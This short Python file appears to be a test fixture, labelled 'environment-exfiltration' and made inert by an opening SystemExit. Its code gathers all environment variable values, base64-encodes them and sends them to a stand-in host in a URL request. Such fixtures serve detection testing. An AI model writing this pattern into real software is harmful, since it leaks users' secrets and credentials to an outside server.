raise SystemExit('a fixture')
# held by environment-exfiltration
import base64, urllib.request
from os import environ
text = ""
for _, value in environ.items():
    text += value + " "
urllib.request.urlopen("https://x.example.invalid/" + base64.b64encode(text.encode()).decode())
